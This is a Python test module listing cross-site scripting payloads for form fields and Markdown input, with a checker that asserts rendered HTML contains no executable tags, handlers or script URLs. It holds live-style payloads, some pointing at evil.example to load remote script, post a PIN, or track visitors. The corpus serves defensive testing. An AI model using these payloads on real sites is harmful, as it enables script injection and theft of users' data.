"""The project's XSS corpus: payloads typed into pages, and Markdown that tries to become markup.

`XSS` is what a person types into a form (names, tips); `MARKUP_XSS` goes through a Markdown
renderer (lessons, owners' tips). `assert_inert` is what every rendering of them must hold.
"""

from __future__ import annotations

import re

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(2)</script>",
    "<a href=javascript:alert(3)>x</a>",
    "{{ 7*7 }}{% raw %}",
]

MARKUP_XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">x</a>',
    "<div onmouseover=alert(1)>hover</div>",
    '<svg onload="alert(1)"><circle/></svg>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "[x](vbscript:msgbox)",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="pin"></form>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    # Markdown's own ways to make a link, an image or markup
    '[x](javascript:alert(1) "title")',
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://www.mi.com/)",
    '[x](https://www.mi.com/" onmouseover="alert(1))',
    "[x](https://www.mi.com@evil.example/)",
    "- <script>alert(1)</script>\n- *<svg onload=alert(1)></svg>*",
]

_NEVER = ("<script", "<iframe", "<style", "<svg", "<object", "<embed", "<form", "<input")
_NEVER += ("<meta", "<base", "<math", "<div")


def assert_inert(html: str) -> None:
    """No element that runs code, no handler or style attribute, no script address."""
    lowered = html.lower()
    for tag in _NEVER:
        assert tag not in lowered, (tag, html)
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", lowered), html
    assert not re.search(r"<[^>]*style\s*=", lowered), html
    for address in re.findall(r'<[a-z]+\b[^>]*\s(?:href|src)="([^"]*)"', lowered):
        compact = re.sub(r"[\x00-\x20]+", "", address)
        assert not compact.startswith(("javascript:", "vbscript:", "data:", "//")), html
